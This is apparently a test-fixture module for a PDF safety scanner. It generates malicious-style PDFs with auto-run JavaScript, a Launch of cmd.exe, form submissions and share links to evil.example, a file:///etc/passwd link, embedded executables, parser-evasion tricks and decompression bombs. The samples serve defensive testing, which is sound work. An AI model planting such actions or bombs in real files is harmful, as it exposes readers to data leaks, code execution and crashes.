"""PDFs that do something, hide something, or are none: each with its name."""

import io
from collections.abc import Callable

from pypdf import PdfWriter

from tests.safety.files import HEAD, flate, packed_pdf, pdf, stream, updated, zeros

Make = Callable[[], bytes]
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
#: Actions that run, fetch, send or open something.
ACTIONS: dict[str, bytes] = {
    "JavaScript": JS,
    "JavaScript without a code": b"<</S/JavaScript>>",
    "JavaScript in a stream": b"<</S/JavaScript/JS 5 0 R>>",
    "JavaScript, its name escaped": b"<</S/J#61vaScript/J#53(app.alert(1))>>",
    "JavaScript, all of its name escaped": b"<</#53/#4a#61#76#61#53#63#72#69#70#74/#4a#53(app.alert(1))>>",
    "Launch": b"<</S/Launch/F(cmd.exe)>>",
    "Launch for Windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "SubmitForm": b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>",
    "ImportData": b"<</S/ImportData/F(data.fdf)>>",
    "GoToR": b"<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>",
    "GoToE": b"<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>",
    "Movie": b"<</S/Movie/Operation/Play>>",
    "Sound": b"<</S/Sound/Sound 5 0 R>>",
    "Rendition": b"<</S/Rendition/OP 0/R<<>>>>",
    "RichMediaExecute": b"<</S/RichMediaExecute/TA 5 0 R>>",
    "GoTo3DView": b"<</S/GoTo3DView/TA 5 0 R/V/F>>",
    "a link that is a program": b"<</S/URI/URI(javascript:alert(1))>>",
    "a link to a file": b"<</S/URI/URI(file:///etc/passwd)>>",
    "a link to a share": b"<</S/URI/URI(\\\\\\\\evil.example\\\\share)>>",
    "a link with data": b"<</S/URI/URI(data:text/html;base64,PHNjcmlwdD4=)>>",
    "after a harmless one": b"<</S/GoTo/D[3 0 R/Fit]/Next " + JS + b">>",
    "after two harmless ones": b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>>" + JS + b"]>>",
}
#: Where an action can stand: catalog, page, further objects (4 is the action, 5 a stream).
PLACES: dict[str, tuple[bytes, bytes, tuple[bytes, ...]]] = {
    "at opening": (b"/OpenAction 4 0 R", b"", ()),
    "before printing": (b"/AA<</WP 4 0 R>>", b"", ()),
    "when a page opens": (b"", b"/AA<</O 4 0 R>>", ()),
    "when a page closes": (b"", b"/AA<</C 4 0 R>>", ()),
    "in a link": (b"", b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]", ()),
    "under the mouse": (b"", b"/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/AA<</E 4 0 R>>>>]", ()),
    "in a bookmark": (b"/Outlines<</First 6 0 R/Last 6 0 R>>", b"", (b"<</Title(x)/A 4 0 R>>",)),
    "in a field": (b"/AcroForm<</Fields[6 0 R]>>", b"", (b"<</FT/Tx/T(x)/AA<</K 4 0 R>>>>",)),
    "among the names": (b"/Names<</JavaScript<</Names[(x) 4 0 R]>>>>", b"", ()),
}


def _acts(action: bytes, place: str = "at opening") -> Make:
    root, page, more = PLACES[place]
    return lambda: pdf(action, flate(b"app.alert(1)"), *more, root=root, page=page)


def _of(*more: bytes, **parts: bytes) -> Make:
    return lambda: pdf(*more, **parts)


def _locked(user: str) -> Make:
    def make() -> bytes:
        writer, out = PdfWriter(), io.BytesIO()
        writer.add_blank_page(99, 99)
        writer.encrypt(user, "owner")
        writer.write(out)
        return out.getvalue()

    return make


_SHOWS = b"/Resources<</XObject<</X 4 0 R>>>>"
_FILE = flate(b"MZ\x90\x00")
_ANNOTATION = b"/Annots[<</Type/Annot/Subtype/%s/Rect[0 0 9 9]%s>>]"
#: What a document carries or embeds.
CARRIES: dict[str, Make] = {
    "files among the names": _of(stream(b"/Type/EmbeddedFile", b"MZ"), root=b"/Names<</EmbeddedFiles<</Names[]>>>>"),
    "a file that does not say that it is one": _of(
        _FILE, page=_ANNOTATION % (b"FileAttachment", b"/FS<</F(evil.exe)/EF<</F 4 0 R>>>>")
    ),
    "a file attached to a page": _of(_FILE, page=_ANNOTATION % (b"FileAttachment", b"/Contents(x)")),
    "an associated file": _of(_FILE, root=b"/AF[<</Type/Filespec/F(x.html)/UF(x.html)/EF<</F 4 0 R>>>>]"),
    "a portfolio": _of(root=b"/Collection<</View/T>>"),
    "a film": _of(page=_ANNOTATION % (b"Movie", b"/Movie<</F(x.avi)>>")),
    "a sound": _of(page=_ANNOTATION % (b"Sound", b"")),
    "a screen": _of(page=_ANNOTATION % (b"Screen", b"/MK<<>>")),
    "rich media": _of(page=_ANNOTATION % (b"RichMedia", b"/RichMediaContent<<>>")),
    "a model in space with a program": _of(
        stream(b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R", b"U3D"), flate(b"alert(1)"),
        page=_ANNOTATION % (b"3D", b"/3DD 4 0 R"),
    ),
    "a form as XML": _of(flate(b"<xdp/>"), root=b"/AcroForm<</Fields[]/XFA 4 0 R>>"),
    "a stream that lies elsewhere": _of(
        stream(b"/F(\\\\\\\\evil.example\\\\share)", b""), page=b"/Contents 4 0 R"
    ),
    "a program for printers": _of(stream(b"/Type/XObject/Subtype/PS", b"%!"), page=_SHOWS),
    "a page kept elsewhere": _of(
        stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(x.pdf)/Page 0>>", b""),
        page=_SHOWS,
    ),
}  # fmt: skip
_CATALOG_WITH_JS = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
#: Where programs hide from somebody who only follows the table of objects.
HIDES: dict[str, Make] = {
    "in an object stream": lambda: packed_pdf({1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", 4: JS}),
    "in an object stream, in no table": lambda: packed_pdf({4: JS}, listed=False),
    "in an update": lambda: updated(pdf(), 1, _CATALOG_WITH_JS),
    "in what was updated": lambda: updated(pdf(root=b"/OpenAction" + JS), 1, b"<</Type/Catalog/Pages 2 0 R>>"),
    "in an object that nothing refers to": _of(JS),
    "in an object that stands in no table": lambda: pdf().replace(b"xref\n0", b"9 0 obj\n%s\nendobj\nxref\n0" % JS, 1),
    "in a second catalog before the first": lambda: pdf(head=HEAD + b"1 0 obj\n" + _CATALOG_WITH_JS + b"\nendobj\n"),
    "behind a wrong startxref": lambda: _elsewhere(pdf(root=b"/OpenAction" + JS), 0),
    "behind a startxref beyond the end": lambda: _elsewhere(pdf(root=b"/OpenAction" + JS), 10**9),
    "with spaces in between": _of(root=b"/OpenAction\n<<\r/S %c\n/JavaScript\t/JS\x00(x)>>"),
}
#: What it unpacks to, or claims to be.
FLOODS: dict[str, Make] = {
    "a page of 130 MB": lambda: pdf(stream(b"/Filter/FlateDecode", zeros(130)), page=b"/Contents 4 0 R"),
    "objects of 130 MB": lambda: pdf(
        stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zeros(130)), page=b"/Contents 4 0 R"
    ),
    "packed twice": lambda: pdf(
        stream(b"/Filter[/FlateDecode/FlateDecode]", flate(bytes(9**6))), page=b"/Contents 4 0 R"
    ),
    "packed four ways": lambda: pdf(
        stream(b"/Filter[/ASCIIHexDecode/RunLengthDecode/LZWDecode/RunLengthDecode]", b"00>"), page=b"/Contents 4 0 R"
    ),
    "a picture of 10,000 megapixels": _of(
        flate(b"\0", b"/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray"),
        page=_SHOWS,
    ),
    "a picture of negative size": _of(
        flate(b"\0", b"/Type/XObject/Subtype/Image/Width -1/Height 9"), page=_SHOWS
    ),
    "a page of a kilometre": _of(box=b"[0 0 2834645 2834645]"),
    "a page of a kilometre by its unit": _of(page=b"/UserUnit 15000"),
    "a page turned inside out": _of(box=b"[0 0 -2834645 9]"),
    "501 pages": _of(pages=b"<</Type/Pages/Kids[" + b"3 0 R " * 501 + b"]/Count 501>>"),
    "a thousand million pages": _of(pages=b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"),
    "a page tree that is its own branch": _of(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "25,000 objects": lambda: pdf(*[b"[]"] * 25_000),
    "arrays 20,000 deep": _of(b"[" * 20_000 + b"]" * 20_000, page=b"/X 4 0 R"),
    "dictionaries 20,000 deep": _of(b"<</A" * 20_000 + b"1" + b">>" * 20_000, page=b"/X 4 0 R"),
}  # fmt: skip
_SOUND = pdf(flate(b"BT ET"), page=b"/Contents 4 0 R")


def _cut(percent: int, end: bytes = b"") -> Make:
    return lambda: _SOUND[: len(_SOUND) * percent // 100] + end


#: What is no PDF, or not only one.
BROKEN: dict[str, Make] = {
    **{f"cut after {part} %": _cut(part) for part in (10, 50, 90, 97)},
    **{f"cut after {part} %, with an end": _cut(part, b"\n%%EOF\n") for part in (10, 30)},
    "the header alone": lambda: b"%PDF-1.7\n%%EOF\n",
    "nothing but zeros": lambda: b"%PDF-1.7\n" + bytes(5000) + b"%%EOF\n",
    "no catalog": lambda: _SOUND.replace(b"/Root 1 0 R", b"/Root 9 0 R"),
    "no pages": _of(pages=b"<</Type/Pages/Kids[]/Count 0>>"),
    "a catalog that is a number": lambda: _SOUND.replace(b"/Root 1 0 R", b"/Root 42    "),
    "contents that are not there": _of(page=b"/Contents 9 0 R"),
    "a table that goes before itself": lambda: _loop(),
    "locked with a password": _locked("secret"),
    "locked without one": _locked(""),
    "a form's data": lambda: b"%FDF-1.2\n1 0 obj<</FDF<</F(x.pdf)>>>>endobj trailer<</Root 1 0 R>>\n%%EOF",
    "PostScript": lambda: b"%!PS-Adobe-3.0 PDF-1.7\n(x) print\n%%EOF",
}


def _elsewhere(data: bytes, place: int) -> bytes:
    return data.rpartition(b"startxref")[0] + b"startxref\n%d\n%%%%EOF\n" % place


def _loop() -> bytes:
    """Its table says that the one before it is itself, and lacks the page."""
    data = pdf(trailer=b"/Prev 0000000000")
    place = int(data.rpartition(b"startxref\n")[2].split()[0])
    return data.replace(b"/Prev 0000000000", b"/Prev %010d" % place).replace(b"/Kids[3 0 R]", b"/Kids[8 0 R]")


def table() -> dict[str, Make]:
    """All of them by name."""
    found = {f"action {name}": _acts(action) for name, action in ACTIONS.items()}
    found |= {f"JavaScript {place}": _acts(JS, place) for place in PLACES if place != "at opening"}
    for group, cases in (
        ("carries", CARRIES),
        ("hides a program", HIDES),
        ("floods with", FLOODS),
        ("is broken:", BROKEN),
    ):
        found |= {f"PDF {group} {name}": make for name, make in cases.items()}
    return found
